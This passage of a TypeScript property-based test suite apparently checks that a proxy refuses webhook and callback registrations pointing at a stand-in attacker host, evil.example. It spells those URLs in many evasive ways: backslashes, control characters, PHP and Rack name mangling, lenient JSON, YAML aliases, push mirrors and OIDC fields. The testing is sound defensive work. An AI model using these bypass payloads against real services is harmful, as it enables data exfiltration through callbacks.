  // Controls: the anonymous reply past the cap, a reply to the allowed host within the cap before a large header, go through.
  for (const [i, [address, before]] of ([['http://www.w3.org/2005/08/addressing/anonymous', false], [`http://${dHost}/ok/answers`, true]] as const).entries()) {
    const sent = sentTo.length;
    const [res] = parseResponses((await send('application/soap+xml', [Buffer.from(envelope(address, 'ReplyTo', 'wsa:', before))], '', i === 1)).text);
    t.ok(res?.status === 202, `control: a reply to ${address} ${before ? 'within' : 'past'} the capture cap goes through (${res?.status})`);
    t.equal(sentTo.length - sent, address.includes('anonymous') ? 0 : 1, 'control: the server took it');
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      element: fc.constantFrom('ReplyTo', 'FaultTo'),
      prefix: fc.constantFrom('wsa:', 'a:', ''),
      type: fc.constantFrom<string | undefined>('application/soap+xml', 'text/xml; charset=utf-8', undefined),
      coding: fc.constantFrom('identity', 'gzip'),
      cut: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ element, prefix, type, coding, cut, tunnel }) => {
      const { body, extra } = bytesOf(envelope('https://evil.example/collect', element, prefix, false), coding);
      const sent = sentTo.length;
      const [res] = parseResponses((await send(type, pieces(body, cut), extra, tunnel)).text);
      return (res === undefined || ([400, 403].includes(res.status) && isProblem(res))) && sentTo.length === sent;
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ element: 'ReplyTo', prefix: 'wsa:', type: 'application/soap+xml', coding: 'identity', cut: false, tunnel: false }]] });
});

t.test('property: a callback URL spelled as a WHATWG URL parser reads it (backslashes, no slashes, tabs, C0 controls, no scheme) is decided where the service will send', async (t) => {
  // Twentieth pass: the readers took a callback value for a URL only when it began `http(s)://`,
  // while Node's fetch and `new URL` (and Rust's url crate; .NET's Uri takes `\` for `/`) read
  // `https:\\evil.example\cb`, `https:evil.example/cb`, `h<TAB>ttps://…` and `\x01https://…` as
  // https://evil.example/…: a subscription posting there went through undecided.
  const dHost = `allowed.example:${dav.port}`;
  // (The service resolves a value against its own URL, as `new URL(v, base)` does: `//evil.example/cb` is https://evil.example/cb to it.)
  const whatwg = (v: string): string | undefined => { const u = URL.parse(v.trim()) ?? URL.parse(v.trim(), 'https://allowed.example/ok/'); return u && /^https?:$/.test(u.protocol) ? u.host : undefined; };
  const send = (type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, [`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok/subscriptions HTTP/1.1\r\nHost: ${dHost}\r\n${head}`, body], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [`POST http://${dHost}/ok/subscriptions HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, body], { responses: 1 });
  };
  const spell = (how: string, host: string): string => {
    switch (how) {
      case 'backslashes': return `https:\\\\${host}\\cb`;
      case 'no slashes': return `https:${host}/cb`;
      case 'one slash': return `HTTPS:/${host}/cb`;
      case 'tab in the scheme': return `h\tt\ntps://${host}/cb`;
      // Twenty-first pass: no scheme at all, resolved against the service's own URL.
      case 'scheme-relative': return `//${host}/cb`;
      case 'scheme-relative backslashes': return `\\\\${host}\\cb`;
      case 'slash and backslash': return ` /\\${host}/cb`;
      case 'tab between the slashes': return `/\t/${host}/cb`;
      default: return `\u0001https://${host}/cb`;
    }
  };
  const pad = crypto.randomBytes(150_000).toString('hex');
  const bodyOf = (shape: string, value: string, large: boolean): [string, string] => shape === 'form'
    ? ['application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}callback_url=${encodeURIComponent(value)}`]
    : ['application/json', JSON.stringify(large ? { pad, subscription: { notificationUrl: value } } : { notificationUrl: value })];
  const spellings = ['backslashes', 'no slashes', 'one slash', 'tab in the scheme', 'C0 control', 'scheme-relative', 'scheme-relative backslashes', 'slash and backslash', 'tab between the slashes'];
  // Controls: the same spellings of the allowed host register there; a value that is no URL past the cap goes through.
  for (const [i, how] of spellings.entries()) {
    const before = sentTo.length;
    const [type, body] = bodyOf(i % 2 ? 'form' : 'JSON', spell(how, dHost), false);
    const [res] = parseResponses((await send(type, body, i % 2 === 0)).text);
    t.ok(res?.status === 201 && sentTo.slice(before).some((v) => whatwg(v) === dHost), `control: a callback to the allowed host spelled with ${how} is registered (${res?.status})`);
  }
  for (const shape of ['JSON', 'form']) {
    const [type, body] = bodyOf(shape, 'none', true);
    t.equal(parseResponses((await send(type, body, false)).text)[0]?.status, 201, `control: a ${shape} body past the capture cap whose callback is no URL goes through`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({ how: fc.constantFrom(...spellings), shape: fc.constantFrom('JSON', 'form'), large: fc.boolean(), tunnel: fc.boolean() }),
    async ({ how, shape, large, tunnel }) => {
      const before = sentTo.length;
      const [type, body] = bodyOf(shape, spell(how, 'evil.example'), large);
      const [res] = parseResponses((await send(type, body, tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !sentTo.slice(before).some((v) => whatwg(v) === 'evil.example');
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ how: 'backslashes', shape: 'JSON', large: false, tunnel: false }], [{ how: 'tab in the scheme', shape: 'form', large: true, tunnel: true }], [{ how: 'scheme-relative', shape: 'JSON', large: false, tunnel: false }], [{ how: 'scheme-relative backslashes', shape: 'form', large: false, tunnel: true }], [{ how: 'slash and backslash', shape: 'JSON', large: true, tunnel: false }]] });
});

t.test('property: a callback named as its server reads the name (PHP\'s `callback.url`, `callback url`, `callback[url`), given twice (first-wins JSON readers) or in JSON only lenient readers take (a value after, comments, trailing commas) or in XML is decided where the service will send', async (t) => {
  // Twenty-first pass: PHP fills $_POST with `.`, blanks and an unclosed `[` of a name turned to `_`,
  // so `callback.url=` is Laravel's `callback_url` (the readers took `url`, the last dotted part);
  // a JSON member given twice was read by its last value, while Go's gjson and simdjson take the first;
  // a body JSON.parse refuses (a value or junk after the first, a comment, a trailing comma) named no
  // callback, while Go's json.Decoder and Jackson read its first value, and JSONC readers all of it.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, [`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}`, body], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}`, body], { responses: 1 });
  };
  const pad = crypto.randomBytes(150_000).toString('hex');
  const shapes: Record<string, (url: string, other: string, large: boolean) => [string, string, string]> = {
    'callback.url': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}callback.url=${encodeURIComponent(url)}`],
    'callback url': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}callback+url=${encodeURIComponent(url)}`],
    'callback[url': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}callback%5Burl=${encodeURIComponent(url)}`],
    'twice': (url, other, large) => ['/ok/first/subscriptions', 'application/json', `{"notificationUrl": ${JSON.stringify(url)}, ${large ? `"pad": "${pad}", ` : ''}"notificationUrl": ${JSON.stringify(other)}}`],
    'twice, escaped': (url, other, large) => ['/ok/first/subscriptions', 'application/json', `{"sub": {"notificationUrl": ${JSON.stringify(url)}, ${large ? `"pad": "${pad}", ` : ''}"notific\\u0061tionUrl": ${JSON.stringify(other)}}}`],
    // JSON read as lenient servers read it: the first value of a body that goes on, comments, a trailing comma.
    'a value after': (url, _o, large) => ['/ok/stream/subscriptions', 'application/json', `{"notificationUrl": ${JSON.stringify(url)}${large ? `, "pad": "${pad}"` : ''}}\n{"more": 1}`],
    'junk after': (url, _o, large) => ['/ok/stream/subscriptions', 'application/json', `{${large ? `"pad": "${pad}", ` : ''}"notificationUrl": ${JSON.stringify(url)}}]x`],
    'a comment': (url, _o, large) => ['/ok/jsonc/subscriptions', 'application/json', `{/* the subscription */ "notificationUrl": ${JSON.stringify(url)}${large ? `, "pad": "${pad}"` : ''}}`],
    'a trailing comma': (url, _o, large) => ['/ok/jsonc/subscriptions', 'application/json', `{${large ? `"pad": "${pad}", ` : ''}"sub": {"notificationUrl": ${JSON.stringify(url)},},}`],
    // (Twenty-eighth pass: as Gson's fromJson reads JSON, leniently: `=`, `=>`, `;`, `#` comments, its XSSI prefix.)
    'Gson = and ;': (url) => ['/ok/gson/subscriptions', 'application/json', `{"name" = "x"; "notificationUrl" = ${JSON.stringify(url)}}`],
    'Gson => and a # comment': (url) => ['/ok/gson/subscriptions', 'application/json', `{"sub" => {"notificationUrl" => ${JSON.stringify(url)} # the hook\n}}`],
    'Gson XSSI prefix': (url) => ['/ok/gson/subscriptions', 'application/json', `)]}'\n{"callback_url": ${JSON.stringify(url)}}`],
    // A multipart form's field, bound as a urlencoded one is.
    'multipart field': (url, _o, large) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n` : ''}--mb\r\nContent-Disposition: form-data; name="callback_url"\r\n\r\n${url}\r\n--mb--\r\n`],
    'multipart field in UTF-7': (url) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nutf-7\r\n--mb\r\nContent-Disposition: form-data; name="callback_url"\r\n\r\n${url.replace('://', '+ADovLw-')}\r\n--mb--\r\n`],
    // OpenID Connect dynamic client registration (RFC 7591, OpenID Connect Registration and Back-Channel Logout, CIBA).
    'OIDC jwks_uri': (url) => ['/ok/register', 'application/json', JSON.stringify({ client_name: 'x', redirect_uris: ['https://app.example/cb'], jwks_uri: url })],
    'OIDC request_uris': (url, other, large) => ['/ok/register', 'application/json', JSON.stringify({ client_name: 'x', ...(large ? { pad } : {}), request_uris: [other, url] })],
    'OIDC backchannel_logout_uri': (url) => ['/ok/register', 'application/json', JSON.stringify({ client_name: 'x', backchannel_logout_uri: url })],
    'OIDC sector_identifier_uri': (url) => ['/ok/register', 'application/json', JSON.stringify({ client_name: 'x', sector_identifier_uri: url })],
    'CIBA notification endpoint': (url) => ['/ok/register', 'application/json', JSON.stringify({ backchannel_token_delivery_mode: 'ping', backchannel_client_notification_endpoint: url })],
    // Twenty-second pass: names that register where a service pushes (Pub/Sub, Twilio's numbers, SNS's
    // Subscribe, a REST hook's or Pipedrive's subscription on a hooks endpoint, `…_uri` spellings).
    'Pub/Sub pushEndpoint': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ topic: 'projects/p/topics/t', pushConfig: { pushEndpoint: url } })],
    'Twilio SmsUrl': (url) => ['/ok/subscriptions', 'application/x-www-form-urlencoded', `FriendlyName=main&SmsUrl=${encodeURIComponent(url)}&SmsMethod=POST`],
    'Twilio VoiceUrl, large': (url, _o, large) => ['/ok/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}VoiceUrl=${encodeURIComponent(url)}`],
    'SNS Subscribe': (url) => ['/ok/subscriptions', 'application/x-www-form-urlencoded', `Action=Subscribe&TopicArn=arn%3Aaws%3Asns%3Aus-east-1%3A1%3At&Protocol=https&Endpoint=${encodeURIComponent(url)}`],
    'callback_uri': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), callback_uri: url })],
    'REST hook target_url': (url) => ['/ok/hooks', 'application/json', JSON.stringify({ event: 'new_lead', target_url: url })],
    'Pipedrive subscription_url': (url) => ['/ok/hooks', 'application/json', JSON.stringify({ event_action: '*', event_object: '*', subscription_url: url })],
    // (Parameters split on `;` as Rack 2 splits them: in the query beside a form, in a form, past the cap.)
    // Twenty-third pass: names a list of whole names lacked (Twilio's recording and AMD callbacks,
    // Postmark's hooks, Twilio Conversations' pre-event webhook) and Asana's webhook `target`.
    'Twilio RecordingStatusCallback': (url) => ['/ok/subscriptions', 'application/x-www-form-urlencoded', `To=%2B15550100&Record=true&RecordingStatusCallback=${encodeURIComponent(url)}`],
    'Twilio AmdStatusCallback, large': (url, _o, large) => ['/ok/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}MachineDetection=Enable&AmdStatusCallback=${encodeURIComponent(url)}`],
    'Postmark InboundHookUrl': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ Name: 'main', InboundHookUrl: url })],
    'Postmark BounceHookUrl, large': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), Name: 'main', BounceHookUrl: url })],
    'Conversations PreWebhookUrl': (url) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="PreWebhookUrl"\r\n\r\n${url}\r\n--mb--\r\n`],
    'Asana webhook target': (url) => ['/ok/hooks', 'application/json', JSON.stringify({ data: { resource: '1200', target: url } })],
    // Twenty-sixth pass: names no list held, off a hooks endpoint (Vonage's application `status_url` and
    // `inbound_url`, Plivo's call `hangup_url`, an SMS gateway's `dlr_url`, `delivery_report_url` past the cap).
    'Vonage status_url': (url) => ['/ok/v2/applications', 'application/json', JSON.stringify({ name: 'app', status_url: url })],
    'Vonage inbound_url': (url) => ['/ok/v2/applications', 'application/json', JSON.stringify({ name: 'app', messages: { inbound_url: url } })],
    'Plivo hangup_url': (url) => ['/ok/v1/Account/MA1/Call', 'application/x-www-form-urlencoded', `from=1555&to=1556&answer_url=https%3A%2F%2Fallowed.example%2Fa&hangup_url=${encodeURIComponent(url)}`],
    'SMS dlr_url': (url) => ['/ok/v2/applications', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="dlr_url"\r\n\r\n${url}\r\n--mb--\r\n`],
    'delivery_report_url, large': (url, _o, large) => ['/ok/v2/applications', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), deliveryReportUrl: url })],
    // Twenty-fourth pass: a URL inside a route's expression (Mailgun's `forward("…")`, `store(notify="…")`),
    // the holder a GraphQL API names (Shopify's `webhookSubscription: {uri}`), in a GraphQL literal, a hook
    // endpoint named otherwise (PagerDuty's `/webhook_subscriptions`, `delivery_method.url`).
    'Mailgun route forward': (url, _o, large) => ['/ok/v3/routes', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}priority=0&expression=${encodeURIComponent('match_recipient(".*@corp.example")')}&action=${encodeURIComponent(`forward("${url}")`)}&action=stop()`],
    'Mailgun route forward, unescaped': (url) => ['/ok/v3/routes', 'application/x-www-form-urlencoded', `priority=0&expression=catch_all()&action=forward("${url}")`],
    'Mailgun route store notify': (url) => ['/ok/v3/routes/r1', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="expression"\r\n\r\ncatch_all()\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\nstore(notify='${url}')\r\n--mb--\r\n`],
    'Shopify webhookSubscription uri': (url) => ['/ok/graphql/subscriptions', 'application/json', JSON.stringify({ query: 'mutation c($topic: WebhookSubscriptionTopic!, $sub: WebhookSubscriptionInput!) { webhookSubscriptionCreate(topic: $topic, webhookSubscription: $sub) { userErrors { message } } }', variables: { topic: 'ORDERS_CREATE', sub: { uri: url, format: 'JSON' } } })],
    'GraphQL literal callbackUrl': (url) => ['/ok/graphql/subscriptions', 'application/json', JSON.stringify({ query: `mutation { webhookSubscriptionCreate(topic: ORDERS_CREATE, webhookSubscription: {callbackUrl: ${JSON.stringify(url)}, format: JSON}) { userErrors { message } } }` })],
    'GraphQL hook field, variables': (url) => ['/ok/graphql/subscriptions', 'application/json', JSON.stringify({ query: 'mutation w($in: WebhookCreateInput!) { webhookCreate(input: $in) { success } }', variables: { in: { url, teamId: 't1', resourceTypes: ['Issue'] } } })],
    'Sentry webhooks plugin urls': (url, other) => ['/ok/api/0/projects/o/p/plugins/webhooks/', 'application/json', JSON.stringify({ urls: `${other}\n${url}` })],
    'PagerDuty delivery_method': (url) => ['/ok/webhook_subscriptions', 'application/json', JSON.stringify({ webhook_subscription: { type: 'webhook_subscription', delivery_method: { type: 'http_delivery_method', url }, events: ['incident.triggered'], filter: { type: 'account_reference' } } })],
    // (Slack's app manifests: every event of the workspace's channels posted to `event_subscriptions.request_url`,
    // interactions to `interactivity.request_url`, a slash command's to its `url`; `manifest` a JSON document, or
    // one in a form field; a JSON document in any form field.)
    'Slack manifest event request_url': (url) => ['/ok/slack/subscriptions', 'application/json', JSON.stringify({ manifest: { display_information: { name: 'x' }, settings: { event_subscriptions: { request_url: url, bot_events: ['message.channels'] } } } })],
    'Slack manifest in a form field': (url) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `app_id=A1&manifest=${encodeURIComponent(JSON.stringify({ settings: { interactivity: { is_enabled: true, request_url: url } } }))}`],
    'Slack slash command url': (url) => ['/ok/slack/subscriptions', 'application/json', JSON.stringify({ manifest: { features: { slash_commands: [{ command: '/x', url, description: 'x' }] } } })],
    'nested form webhook[url], unescaped': (url) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `name=x&webhook[url]=${url}`],
    'JSON in a form field, unescaped': (url) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `name=x&subscription=${JSON.stringify({ changeType: 'created', notificationUrl: url })}`],
    'Rack part named by its Content-ID': (url) => ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `\r\n--mb\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--mb\r\nContent-Disposition: form-data\r\nContent-ID: callback_url\r\n\r\n${url}\r\n--mb--\r\n`],
    'JSON in a form field': (url, _o, large) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&subscription=${encodeURIComponent(JSON.stringify({ changeType: 'created', notificationUrl: url }))}`],
    // Twenty-fifth pass: a list's name (`callback_url[]`, which PHP and Rack build into a list under
    // `callback_url`), a Rack part named `<its Content-Type>[]`, a Mailgun `action` part and a form
    // field's JSON document past the capture cap.
    'callback list name': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&callback_url%5B%5D=${encodeURIComponent(url)}`],
    'JSON in a multipart field': (url, _o, large) => ['/ok/slack/subscriptions', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="pad"\r\n\r\n${pad}\r\n` : ''}--mb\r\nContent-Disposition: form-data; name="subscription"\r\n\r\n${JSON.stringify({ note: 'a;b&c', notificationUrl: url })}\r\n--mb--\r\n`],
    'JSON with a ; in a form field': (url, _o, large) => ['/ok/slack/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}subscription=${JSON.stringify({ note: 'a;b', notificationUrl: url })}`],
    // (Holders named otherwise: A2A's push notifications (an agent server posts each task's updates and
    // artifacts there), DocuSign's envelope eventNotification, a Knative sink, a Cloud Scheduler target.)
    'A2A pushNotificationConfig': (url, _o, large) => ['/ok/a2a/subscriptions', 'application/json', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tasks/pushNotificationConfig/set', params: { taskId: 't1', ...(large ? { pad } : {}), pushNotificationConfig: { url, token: 'x' } } })],
    'A2A message/send configuration': (url) => ['/ok/a2a/subscriptions', 'application/json', JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'message/send', params: { message: { role: 'user', parts: [{ kind: 'text', text: 'hi' }], messageId: 'm1' }, configuration: { pushNotificationConfig: { url } } } })],
    'DocuSign eventNotification': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ emailSubject: 'x', status: 'sent', eventNotification: { url, loggingEnabled: 'true', envelopeEvents: [{ envelopeEventStatusCode: 'completed' }] } })],
    'Knative sink': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ apiVersion: 'sources.knative.dev/v1', kind: 'PingSource', spec: { schedule: '* * * * *', sink: { uri: url } } })],
    'Cloud Scheduler httpTarget': (url, _o, large) => ['/ok/jobs', 'application/json', JSON.stringify({ name: 'j', schedule: '* * * * *', ...(large ? { description: pad } : {}), httpTarget: { uri: url, httpMethod: 'POST', oidcToken: { serviceAccountEmail: 'sa@p.iam.gserviceaccount.com' } } })],
    // (Where a server sends a credential it keeps: EventBridge's API destination and connection, an identity
    // provider's token URL; and Vonage's application webhooks, one level further down.)
    'EventBridge InvocationEndpoint': (url) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ Name: 'd', ConnectionArn: 'arn:aws:events:us-east-1:1:connection/c/1', InvocationEndpoint: url, HttpMethod: 'POST' })],
    'EventBridge connection AuthorizationEndpoint': (url, _o, large) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ Name: 'c', ...(large ? { Description: pad } : {}), AuthorizationType: 'OAUTH_CLIENT_CREDENTIALS', AuthParameters: { OAuthParameters: { AuthorizationEndpoint: url, HttpMethod: 'POST' } } })],
    'Keycloak identity provider tokenUrl': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ alias: 'corp', providerId: 'oidc', config: { tokenUrl: url, clientId: 'c', clientSecret: '**********' } })],
    'Vonage application webhooks': (url, _o, large) => ['/ok/vonage/subscriptions', 'application/json', JSON.stringify({ name: 'app', ...(large ? { pad } : {}), capabilities: { voice: { webhooks: { ...(large ? { settings: { region: 'eu' } } : { answer_url: { address: 'https://allowed.example/a', http_method: 'GET' } }), event_url: { address: url, http_method: 'POST' } } } } })],
    // (A repository's push mirror: the server pushes every branch there on each push.)
    'GitLab push mirror': (url) => ['/ok/api/v4/projects/7/remote_mirrors', 'application/json', JSON.stringify({ url: url.replace('https://', 'https://oauth2:x@'), enabled: true, only_protected_branches: false })],
    'Gitea push mirror': (url) => ['/ok/api/v1/repos/o/r/push_mirrors', 'application/json', JSON.stringify({ remote_address: url, remote_username: 'u', remote_password: 'p', interval: '8h', sync_on_commit: true })],
    'GitLab push mirror, form': (url) => ['/ok/api/v4/projects/7/remote_mirrors', 'application/x-www-form-urlencoded', `url=${encodeURIComponent(url)}&enabled=true`],
    'Eventarc httpEndpoint': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { labels: { pad } } : {}), eventFilters: [{ attribute: 'type', value: 'google.cloud.audit.log.v1.written' }], destination: { httpEndpoint: { uri: url } } })],
    'Firehose HTTP endpoint': (url) => ['/ok/subscriptions', 'application/x-amz-json-1.1', JSON.stringify({ DeliveryStreamName: 's', HttpEndpointDestinationConfiguration: { EndpointConfiguration: { Url: url, Name: 'x' }, S3Configuration: { BucketARN: 'arn:aws:s3:::b' } } })],
    'API Gateway HTTP integration': (url) => ['/ok/restapis/a1/resources/r1/methods/POST/integration', 'application/json', JSON.stringify({ type: 'HTTP_PROXY', httpMethod: 'POST', uri: url })],
    'API Gateway v2 integration': (url) => ['/ok/v2/apis/a1/integrations', 'application/json', JSON.stringify({ IntegrationType: 'HTTP_PROXY', IntegrationMethod: 'ANY', IntegrationUri: url, PayloadFormatVersion: '1.0' })],
    'a URL-named member of a webhooks object': (url, _o, large) => ['/ok/vonage/subscriptions', 'application/json', JSON.stringify({ name: 'app', ...(large ? { pad } : {}), webhooks: { status_url: url, http_method: 'POST' } })],
    'OIDC request_uris[0] in a form': (url) => ['/ok/php/register', 'application/x-www-form-urlencoded', `client_name=x&request_uris[0]=${encodeURIComponent(url)}`],
    'Rack part named by its Content-Type': (url, _o, large) => ['/ok/rack/subscriptions', 'multipart/form-data; boundary=mb', `\r\n--mb\r\nContent-Disposition: form-data; name="${large ? 'pad' : 'name'}"\r\n\r\n${large ? pad : 'x'}\r\n--mb\r\nContent-Disposition: form-data\r\nContent-Type: callback_url\r\n\r\n${url}\r\n--mb--\r\n`],
    'Mailgun route store notify, large': (url, _o, large) => ['/ok/v3/routes/r1', 'multipart/form-data; boundary=mb', `${large ? `--mb\r\nContent-Disposition: form-data; name="description"\r\n\r\n${pad}\r\n` : ''}--mb\r\nContent-Disposition: form-data; name="expression"\r\n\r\ncatch_all()\r\n--mb\r\nContent-Disposition: form-data; name="action"\r\n\r\nstore(notify='${url}')\r\n--mb--\r\n`],
    'Rack 2 query': (url) => [`/ok/rack/subscriptions?a=1;callback_url=${encodeURIComponent(url)}`, 'application/x-www-form-urlencoded', 'name=x'],
    // (A nested form name, as PHP and Rack build `{"webhook": {"url": …}}` of it.)
    'nested form webhook[url]': (url, _o, large) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}&` : ''}name=x&webhook%5Burl%5D=${encodeURIComponent(url)}`],
    'nested form webhook[url], large': (url, o, large) => shapes['nested form webhook[url]']!(url, o, large),
    // (Twenty-eighth pass: a list of nested objects, as PHP, Rack and qs build `webhooks[0][url]`, and Spring's property paths.)
    'nested list webhooks[0][url]': (url) => ['/ok/php/subscriptions', 'application/x-www-form-urlencoded', `name=x&webhooks%5B0%5D%5Burl%5D=${encodeURIComponent(url)}`],
    'Spring webhooks[0].url': (url) => ['/ok/spring/subscriptions', 'application/x-www-form-urlencoded', `name=x&webhooks%5B0%5D.url=${encodeURIComponent(url)}`],
    'Spring config.webhook.url': (url) => ['/ok/spring/subscriptions', 'application/x-www-form-urlencoded', `name=x&config.webhook.url=${encodeURIComponent(url)}`],
    // (And the same holders in XML, as Jackson's XML module binds `<webhook><url>`: twenty-eighth pass.)
    'XML webhook holder': (url) => ['/ok/subscriptions', 'application/xml', `<Subscription><name>x</name><webhook><url>${url.replaceAll('&', '&amp;')}</url></webhook></Subscription>`],
    'XML webhooks list, attribute': (url) => ['/ok/subscriptions', 'text/xml', `<s:Subscription xmlns:s="urn:s"><s:webhooks><s:webhook s:url="${url.replaceAll('&', '&amp;')}"/></s:webhooks></s:Subscription>`],
    'Rack 2 form': (url) => ['/ok/rack/subscriptions', 'application/x-www-form-urlencoded', `name=x;callback_url=${encodeURIComponent(url)}`],
    'Rack 2 form, large': (url, _o, large) => ['/ok/rack/subscriptions', 'application/x-www-form-urlencoded', `${large ? `pad=${pad}` : 'name=x'};callback_url=${encodeURIComponent(url)}`],
    // (A JSON array of subscriptions: the watch past the cap read objects only.)
    'array of subscriptions, large': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify([{ ...(large ? { pad } : {}), changeType: 'created', notificationUrl: url }])],
    // (A JSON part of a multipart body, bound to an object: Spring's @RequestPart, Google's multipart/related metadata.)
    'JSON part': (url) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="subscription"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ changeType: 'created', notificationUrl: url })}\r\n--mb\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--mb--\r\n`],
    'JSON file part': (url) => ['/ok/subscriptions', 'multipart/form-data; boundary=mb', `--mb\r\nContent-Disposition: form-data; name="subscription"; filename="s.json"\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ webhook: { url } })}\r\n--mb--\r\n`],
    'multipart/related JSON part': (url) => ['/ok/subscriptions', 'multipart/related; boundary=mb', `--mb\r\nContent-Type: application/json; charset=UTF-8\r\n\r\n${JSON.stringify({ name: 'x', callback_url: url })}\r\n--mb\r\nContent-Type: text/plain\r\n\r\nhello\r\n--mb--\r\n`],
    // (An object under a callback name, or a Kubernetes clientConfig, holding the URL as its `url`.)
    'webhook object': (url, _o, large) => ['/ok/subscriptions', 'application/json', JSON.stringify({ ...(large ? { pad } : {}), name: 'x', webhook: { url, events: ['*'] } })],
    'CRD conversion clientConfig': (url) => ['/ok/subscriptions', 'application/json', JSON.stringify({ spec: { conversion: { strategy: 'Webhook', webhook: { clientConfig: { url }, conversionReviewVersions: ['v1'] } } } })],
    'notification endpoint object, large': (url, _o, large) => ['/ok/subscriptions', 'application/json', `{${large ? `"pad": "${pad}", ` : ''}"notification": {"kind": "web", "endpoint": ${JSON.stringify(url)}}}`],
    // The same object in XML, as Spring (Jackson's XML module) and ASP.NET bind one.
    // (Twenty-second pass: past the capture cap too, behind a padding element.)
    // (Twenty-ninth pass: the same objects in YAML, which Kubernetes' API server takes for every object and Jackson's YAML module binds as JSON.)
    'YAML Kubernetes webhook configuration': (url) => ['/ok/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', 'application/yaml', `apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: audit\nwebhooks:\n- name: audit.example.com\n  clientConfig:\n    url: ${url}\n  rules:\n  - operations: ["*"]\n    apiGroups: ["*"]\n    apiVersions: ["*"]\n    resources: ["secrets"]\n  sideEffects: None\n  admissionReviewVersions: ["v1"]\n`],
    'YAML callback, escaped and aliased': (url) => ['/ok/subscriptions', 'application/x-yaml', `name: x\nu: &u "\\x${url.charCodeAt(0).toString(16)}${url.slice(1)}"\nchangeType: created\nnotificationUrl: *u\n`],
    'YAML webhook holder, merge key': (url) => ['/ok/subscriptions', 'text/yaml', `defaults: &d\n  webhook:\n    url: ${url}\nsubscription:\n  <<: *d\n  name: x\n`],
